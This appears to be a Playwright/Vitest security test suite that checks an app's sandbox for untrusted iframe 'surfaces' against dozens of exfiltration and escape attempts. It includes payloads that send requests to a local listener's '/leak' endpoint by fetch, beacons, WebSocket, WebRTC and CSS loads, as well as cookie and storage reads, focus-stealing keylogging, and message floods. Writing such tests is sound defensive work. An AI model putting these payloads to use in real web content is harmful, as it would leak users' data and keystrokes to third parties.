import { randomUUID } from 'node:crypto';
import { afterAll, beforeAll, beforeEach, describe, expect, it, type TestContext } from 'vitest';
import type { Page } from 'playwright-core';
import { until } from './app-page.ts';
import { DESKTOP, PHONE } from './browser.ts';
import { Listener, saidOf, showUndefended } from './surface-attack-stage.ts';
import { SurfacePage, type TestApp } from './surface-page.ts';
import { useWorld } from './world.ts';

const world = useWorld();
let listener: Listener;
beforeAll(async () => {
  listener = await Listener.start();
});
beforeEach(() => listener.clear());
afterAll(() => listener.stop());

/** How long a leak may take to arrive, in ms. */
const LEAKS_WITHIN_MS = 1_200;
const TYPED = 'this is typed by the user into the app';
const wait = (ms: number) => new Promise((resolve) => setTimeout(resolve, ms));

/** Types as a person does. The frame that a key went to may be gone before it answers: nobody waits for that. */
async function typeSlowly(page: Page, text: string): Promise<void> {
  for (const key of text) await Promise.all([wait(70), Promise.race([page.keyboard.type(key), wait(300)])]);
}

/** Skips when the attack does nothing even without a defence: then a defence that holds would prove nothing. */
async function needsControl(context: TestContext, leaked: () => Promise<boolean> | boolean): Promise<void> {
  try {
    await until('the control leaks', leaked, 5_000);
  } catch {
    context.skip('without the defence this browser does not leak either');
  }
}

type Code = (there: Pick<Listener, 'origin' | 'udp'>) => { html?: string; js: string };

/** Attacks that reach the listener, or would. */
const LEAKS: Record<string, Code> = {
  'navigates itself': ({ origin }) => ({ js: `location = '${origin}/leak'` }),
  'replaces itself': ({ origin }) => ({ js: `location.replace('${origin}/leak')` }),
  'refreshes itself by a meta element': ({ origin }) => ({ html: `<meta http-equiv="refresh" content="0;url=${origin}/leak">`, js: '' }),
  'clicks a link': ({ origin }) => ({ html: `<a href="${origin}/leak">x</a>`, js: `document.querySelector('a').click()` }),
  'clicks a download link': ({ origin }) => ({ html: `<a download href="${origin}/leak">x</a>`, js: `document.querySelector('a').click()` }),
  'sends a ping': ({ origin }) => ({ html: `<a href="#x" ping="${origin}/leak">x</a>`, js: `document.querySelector('a').click()` }),
  'submits a form': ({ origin }) => ({
    html: `<form action="${origin}/leak"><input name="a"></form>`,
    js: `document.querySelector('form').submit()`,
  }),
  'opens a frame': ({ origin }) => ({ html: `<iframe src="${origin}/leak"></iframe>`, js: '' }),
  'opens a frame that navigates': ({ origin }) => ({ html: `<iframe srcdoc="<script>location='${origin}/leak'</script>"></iframe>`, js: '' }),
  'opens an object': ({ origin }) => ({ html: `<object data="${origin}/leak"></object><embed src="${origin}/leak">`, js: '' }),
  fetches: ({ origin }) => ({ js: `fetch('${origin}/leak', { mode: 'no-cors' }).catch(() => {})` }),
  'uses XMLHttpRequest': ({ origin }) => ({ js: `const x = new XMLHttpRequest(); x.open('GET', '${origin}/leak'); x.send()` }),
  'opens a WebSocket': ({ origin }) => ({ js: `new WebSocket('${origin.replace('http', 'ws')}/leak')` }),
  'opens an EventSource': ({ origin }) => ({ js: `new EventSource('${origin}/leak')` }),
  'sends a beacon': ({ origin }) => ({ js: `navigator.sendBeacon('${origin}/leak', 'x')` }),
  'loads an image': ({ origin }) => ({ js: `new Image().src = '${origin}/leak'` }),
  'loads an image by CSS': ({ origin }) => ({ html: `<p style="background:url(${origin}/leak)">x</p>`, js: '' }),
  'imports CSS': ({ origin }) => ({ html: `<style>@import '${origin}/leak.css';</style>`, js: '' }),
  'links CSS': ({ origin }) => ({ html: `<link rel="stylesheet" href="${origin}/leak.css">`, js: '' }),
  'loads a font': ({ origin }) => ({
    html: `<style>@font-face{font-family:x;src:url(${origin}/leak)}</style><p style="font-family:x">x</p>`,
    js: '',
  }),
  'loads a script': ({ origin }) => ({ js: `const s = document.createElement('script'); s.src = '${origin}/leak.js'; document.body.append(s)` }),
  'imports a module': ({ origin }) => ({ js: `import('${origin}/leak.js').catch(() => {})` }),
  'starts a worker': ({ origin }) => ({
    js: `try { new Worker(URL.createObjectURL(new Blob(["fetch('${origin}/leak',{mode:'no-cors'})"], { type: 'text/javascript' }))) } catch {}`,
  }),
  'plays a video': ({ origin }) => ({ html: `<video src="${origin}/leak" preload="auto"></video>`, js: '' }),
  prefetches: ({ origin }) => ({ html: `<link rel="prefetch" href="${origin}/leak"><link rel="preload" as="image" href="${origin}/leak">`, js: '' }),
};

const WEBRTC: Code = ({ udp }) => ({
  js: `try { const p = new RTCPeerConnection({ iceServers: [{ urls: 'stun:${udp}' }] }); p.createDataChannel('x'); p.createOffer().then((o) => p.setLocalDescription(o)).catch(() => {}) } catch {}`,
});

describe('nothing leaves a surface that', () => {
  let desk: SurfacePage;
  beforeAll(async () => {
    desk = await SurfacePage.keep(world);
  });
  afterAll(() => desk.close());

  it.each(Object.entries(LEAKS))('%s', async (_, code) => {
    const { html = '', js } = code(listener);
    const ran = `ran-${randomUUID()}`;
    // Said before, since some attacks are the last thing that a document does.
    const instance = await desk.show({ html, js: `LineUpSurface.event('${ran}', {}); setTimeout(() => { ${js} }, 200)` });
    await desk.event(ran);
    await wait(LEAKS_WITHIN_MS);
    expect(listener.hits).toEqual([]);
    expect(new URL(desk.app.page.url()).origin).toBe(world.relay.origin);
    await desk.agent.send('lineup.v1.ui.close', { instance_id: instance });
    await until('it is closed', async () => (await desk.iframe.count()) === 0);
  });

  it('calls out by WebRTC, and the host goes on', async () => {
    const { js } = WEBRTC(listener);
    const rtc = await SurfacePage.pair(world);
    await rtc.show({ js: `LineUpSurface.event('ran', {}); setTimeout(() => { ${js} }, 200)` });
    await rtc.event('ran');
    await wait(LEAKS_WITHIN_MS);
    expect(listener.datagrams).toBe(0);
    // Chromium ends the process of the frame that tried, and Playwright then holds the page for dead: the agent knows better.
    expect(await rtc.agent.result(await rtc.agent.ask('calculator', 'add', { a: 1, b: 2 }))).toMatchObject({ result: { value: 3 } });
  });

  it.each([...Object.entries(LEAKS), ['calls out by WebRTC', WEBRTC] as const])('%s (control)', async (_, code) => {
    const control = await world.device(DESKTOP);
    await showUndefended(control.page, listener.origin, code(listener), 'allow-scripts allow-forms allow-downloads');
    await until('it leaks', () => listener.hits.length + listener.datagrams > 0, 5_000);
  });
});

/** Attacks that know themselves whether they succeeded; the controls run without a sandbox. */
const REACHES: Record<string, string> = {
  'the host’s document': `parent.document.body; top.document.body`,
  'the host’s address': `if (!/secret|#/.test(document.baseURI + document.referrer + parent.location.href)) throw 0`,
  'the storage of the host': `localStorage.setItem('x', '1')`,
  'the databases of the host': `indexedDB.open('x')`,
  'the cookies of the host': `document.cookie`,
  'the caches of the host': `if (!('caches' in window)) throw 0; await caches.open('x')`,
  'a service worker': `if (!navigator.serviceWorker) throw 0; navigator.serviceWorker.controller`,
  'the whole screen': `if (!document.fullscreenEnabled) throw 0`,
  'the camera': `if (!document.featurePolicy.allowsFeature('camera')) throw 0`,
  'the place of the device': `if (!document.featurePolicy.allowsFeature('geolocation')) throw 0`,
  'the clipboard': `if (!document.featurePolicy.allowsFeature('clipboard-write')) throw 0`,
};

describe('a surface does not reach', () => {
  let kept: SurfacePage;
  beforeAll(async () => {
    kept = await SurfacePage.keep(world);
  });
  afterAll(() => kept.close());

  it.each(Object.entries(REACHES))('%s', async (_, code) => {
    const result = `result-${randomUUID()}`;
    const js = `(async () => { let reached = true; try { ${code} } catch { reached = false } LineUpSurface.event('${result}', { reached }) })()`;
    const control = await world.device(DESKTOP);
    await showUndefended(control.page, listener.origin, { js }, null, 'fullscreen; camera; geolocation; clipboard-write');
    await until('the control reaches it', async () => (await saidOf(control.page))[0]?.data.reached === true, 5_000);
    const instance = await kept.show({ js });
    expect(await kept.event(result)).toEqual({ reached: false });
    await kept.agent.send('lineup.v1.ui.close', { instance_id: instance });
    await until('it is closed', async () => (await kept.iframe.count()) === 0);
  });

  it('the window at the top', async () => {
    const js = `LineUpSurface.event('ran', {}); setTimeout(() => { try { top.location = '${listener.origin}/leak' } catch {} }, 200)`;
    const control = await world.device(DESKTOP);
    await showUndefended(control.page, listener.origin, { js }, 'allow-scripts allow-top-navigation');
    await control.page.waitForURL('**/leak');
    listener.clear();
    const desk = await SurfacePage.pair(world);
    await desk.show({ js });
    await desk.event('ran');
    await wait(LEAKS_WITHIN_MS);
    expect(listener.hits).toEqual([]);
    expect(new URL(desk.app.page.url()).origin).toBe(world.relay.origin);
  });

  it('a window of its own, even when the user clicks', async () => {
    const attack = {
      html: '<button>Go</button>',
      js: `document.querySelector('button').onclick = () => { open('${listener.origin}/leak'); LineUpSurface.event('ran', {}) }`,
    };
    const control = await world.device(DESKTOP);
    await showUndefended(control.page, listener.origin, attack, 'allow-scripts allow-popups');
    const [popup] = await Promise.all([control.page.waitForEvent('popup'), control.page.frameLocator('iframe').getByText('Go').click()]);
    await popup.close();
    listener.clear();
    const desk = await SurfacePage.pair(world);
    await desk.show(attack);
    await desk.content.getByText('Go').click();
    await desk.event('ran');
    await wait(LEAKS_WITHIN_MS);
    expect(desk.app.device.context.pages()).toHaveLength(1);
    expect(listener.hits).toEqual([]);
  });

  it('the folder of downloads', async () => {
    const attack = {
      html: '<a download="x.txt" href="data:text/plain,x">Go</a>',
      js: `document.querySelector('a').onclick = () => LineUpSurface.event('ran', {})`,
    };
    const control = await world.device(DESKTOP);
    await showUndefended(control.page, listener.origin, attack, 'allow-scripts allow-downloads');
    await Promise.all([control.page.waitForEvent('download'), control.page.frameLocator('iframe').getByText('Go').click()]);
    const desk = await SurfacePage.pair(world);
    let downloads = 0;
    desk.app.page.on('download', () => (downloads += 1));
    await desk.show(attack);
    await desk.content.getByText('Go').click();
    await desk.event('ran');
    await wait(LEAKS_WITHIN_MS);
    expect(downloads).toBe(0);
  });

  it('the user by a dialog of the browser’s', async () => {
    const js = `try { alert('x'); confirm('x'); prompt('x') } catch {} LineUpSurface.event('ran', {})`;
    const control = await world.device(DESKTOP);
    const heard = control.page.waitForEvent('dialog');
    control.page.on('dialog', (dialog) => void dialog.dismiss());
    await showUndefended(control.page, listener.origin, { js }, 'allow-scripts allow-modals');
    await heard;
    const desk = await SurfacePage.pair(world);
    let dialogs = 0;
    desk.app.page.on('dialog', (dialog) => {
      dialogs += 1;
      void dialog.dismiss();
    });
    await desk.show({ js });
    await desk.event('ran');
    expect(dialogs).toBe(0);
  });
});

describe('a surface is taken down that', () => {
  const LOOP: TestApp = { html: '<p>Loops</p>', js: `LineUpSurface.event('ran', {}); setTimeout(() => { for (;;); }, 300)` };

  it('loops without end, while the host goes on', async (context) => {
    const control = await world.device(DESKTOP);
    await showUndefended(control.page, listener.origin, LOOP, 'allow-scripts');
    const desk = await SurfacePage.pair(world);
    await desk.show(LOOP);
    await desk.event('ran');
    await desk.app.say('still here');
    await desk.app.sees('It stopped answering, so it was ended.');
    expect(await desk.iframe.count()).toBe(0);
    // Nobody ends the other one.
    await needsControl(context, async () => (await control.page.locator('iframe').count()) === 1);
    expect(await Promise.race([control.page.frames()[1]!.evaluate(() => 1), wait(1_000).then(() => 'silent')])).toBe('silent');
  });

  it('floods its port', async () => {
    const js = `let n = 0; const go = () => { for (let i = 0; i < 200; i++) LineUpSurface.event('flood', { n: n++ }); setTimeout(go, 0) }; go()`;
    const control = await world.device(DESKTOP);
    await showUndefended(control.page, listener.origin, { js }, 'allow-scripts');
    await until('everything arrives', async () => (await saidOf(control.page)).length > 2_000, 10_000);
    const desk = await SurfacePage.pair(world);
    await desk.open({ js });
    await desk.app.page.getByRole('button', { name: 'Show', exact: true }).click();
    await desk.app.sees('It sent far too much, so it was ended.');
    await wait(500);
    expect(desk.events('flood')).toBeLessThanOrEqual(60);
  });

  it('floods the host past its port', async () => {
    const js = `const go = () => { for (let i = 0; i < 200; i++) top.postMessage({ i }, '*'); setTimeout(go, 0) }; go()`;
    const control = await world.device(DESKTOP);
    await showUndefended(control.page, listener.origin, { js }, 'allow-scripts');
    await until('everything arrives', async () => (await saidOf(control.page)).length > 2_000, 10_000);
    const desk = await SurfacePage.pair(world);
    await desk.open({ js });
    await desk.app.page.getByRole('button', { name: 'Show', exact: true }).click();
    await desk.app.sees('It sent far too much, so it was ended.');
  });

  it('floods the host from a frame inside of it', async () => {
    const js = `const f = document.createElement('iframe'); f.srcdoc = '<script>setInterval(() => top.postMessage(1, "*"), 5)<' + '/script>'; document.body.append(f)`;
    const desk = await SurfacePage.pair(world);
    await desk.open({ js });
    await desk.app.page.getByRole('button', { name: 'Show', exact: true }).click();
    await desk.app.sees('It sent far too much, so it was ended.');
  });

  it('takes the keyboard from the composer', async () => {
    const attack = {
      html: '<input id="trap">',
      js: `setTimeout(() => setInterval(() => document.querySelector('#trap').focus(), 40), 700); document.querySelector('#trap').onkeydown = (e) => LineUpSurface.event('stolen', { key: e.key })`,
    };
    const control = await world.device(DESKTOP);
    await showUndefended(control.page, listener.origin, attack, 'allow-scripts');
    await control.page.locator('#field').click();
    await typeSlowly(control.page, TYPED);
    await until('keys are stolen', async () => (await saidOf(control.page)).length > 10, 5_000);
    const desk = await SurfacePage.pair(world);
    await desk.show(attack);
    await desk.app.field.click();
    await typeSlowly(desk.app.page, TYPED);
    await desk.app.sees('It reached for your keyboard without being touched, so it was ended.');
    expect(desk.events('stolen')).toBeLessThanOrEqual(4);
    expect((await desk.app.field.inputValue()).endsWith('into the app')).toBe(true);
  });
});

describe('a surface that behaves stays', () => {
  const FORM = {
    html: '<input id="a" placeholder="Name"><button>Go</button>',
    js: `document.querySelector('button').onclick = () => LineUpSurface.event('typed', { value: document.querySelector('#a').value })`,
  };

  it('when the user clicks into it, leaves it and comes back', async () => {
    const desk = await SurfacePage.pair(world);
    await desk.show(FORM);
    for (let i = 0; i < 3; i++) {
      await desk.content.getByPlaceholder('Name').click();
      await desk.app.page.keyboard.type('ab');
      await wait(200);
      await desk.app.field.click();
      await wait(200);
    }
    await desk.content.getByRole('button').click();
    expect(await desk.event('typed')).toEqual({ value: 'ababab' });
  });

  it('when the user gets into it by the Tab key', async () => {
    const desk = await SurfacePage.pair(world);
    await desk.show(FORM);
    await desk.content.getByPlaceholder('Name').waitFor();
    await desk.app.page.getByRole('button', { name: 'Close “Board”' }).last().focus();
    await desk.app.page.keyboard.press('Tab');
    await desk.app.page.keyboard.type('ab');
    await wait(400);
    expect(await desk.content.getByPlaceholder('Name').inputValue()).toBe('ab');
  });

  it('when the user taps it on a phone', async () => {
    const phone = await SurfacePage.pair(world, PHONE);
    await phone.show(FORM);
    await phone.content.getByPlaceholder('Name').tap();
    await phone.app.page.keyboard.type('ab');
    await wait(400);
    await phone.content.getByRole('button').tap();
    expect(await phone.event('typed')).toEqual({ value: 'ab' });
  });
});

describe('what a surface sends', () => {
  it('is short sound JSON, or does not arrive', async () => {
    const js = `
      const say = (event, data) => { try { LineUpSurface.event(event, data) } catch {} };
      const deep = (n) => (n === 0 ? {} : { a: deep(n - 1) });
      const round = {}; round.self = round;
      say('bad1', round); say('bad2', deep(40)); say('bad3', { a: 'x'.repeat(16384) }); say('bad4', { a: '天'.repeat(6000) });
      say('bad5', { a: 1n }); say('bad6', { a: '\\ud800' }); say('bad7', []); say('bad8', 'text'); say('9bad', {}); say('bad'.repeat(30), {}); say(null, {});
      say('bad10', JSON.parse('{"__proto__":{"x":1}}')); say('bad11', { a: 2 ** 60 });
      LineUpSurface.resize('300'); LineUpSurface.resize(NaN); LineUpSurface.resize({});
      parent.postMessage({ namespace: 'lineup.surface.v1', type: 'event', event: 'bad12', data: {} }, '*');
      top.postMessage(JSON.stringify({ namespace: 'lineup.surface.v1', type: 'event', event: 'bad13', data: {} }), '*');
      top.postMessage(new Map([[{}, new Error('x')]]), '*');
      const { port2 } = new MessageChannel(); top.postMessage('lineup.surface.v1 ready', '*', [port2]); parent.postMessage('lineup.surface.v1 bridge', '*', [new MessageChannel().port2]);
      say('good', { ok: true });`;
    const desk = await SurfacePage.pair(world);
    await desk.show({ html: '<p>Odd</p>', js });
    expect(await desk.event('good')).toEqual({ ok: true });
    await wait(500);
    expect(desk.agent.heard.filter(({ type }) => type === 'lineup.v1.ui.event').map(({ payload }) => payload.event)).toEqual(['good']);
    expect(await desk.iframe.count()).toBe(1);
  });

  it('is never said in the name of the bridge, whatever it replaces', async () => {
    const js = `
      let stolen = 0;
      const take = function () { if (this instanceof MessagePort || this instanceof MessageEvent) stolen += 1; };
      MessagePort.prototype.postMessage = take; Object.defineProperty(MessageEvent.prototype, 'data', { get: take }); Object.defineProperty(Event.prototype, 'target', { get: take });
      JSON.parse = JSON.stringify = Function.prototype.call = Function.prototype.apply = Function.prototype.bind = take; Array.prototype.push = take;
      setTimeout(() => LineUpSurface.event('result', { stolen }), 5000);`;
    const desk = await SurfacePage.pair(world);
    const instance = await desk.show({ html: '<p>Takes</p>', js });
    await desk.patch(instance, { a: 1 });
    expect(await desk.event('result')).toEqual({ stolen: 0 });
  });
});

it('without the other name of this machine the page stands on the host’s own, and holds as well', async () => {
  const desk = await SurfacePage.pair(world);
  await desk.app.page.route(/\/\/localhost:/, (route) => route.abort());
  const js = `LineUpSurface.event('ran', {}); let reached = false; try { top.document.body; reached = true } catch {} try { localStorage.length; reached = true } catch {} LineUpSurface.event('result', { reached }); setTimeout(() => { for (;;); }, 300)`;
  await desk.open({ js });
  await desk.app.page.getByRole('button', { name: 'Show', exact: true }).click();
  expect(await desk.event('result')).toEqual({ reached: false });
  expect(desk.app.page.frames()[1]!.url()).toContain('127.0.0.1');
  await desk.app.say('still here');
  await desk.app.sees('It stopped answering, so it was ended.');
});
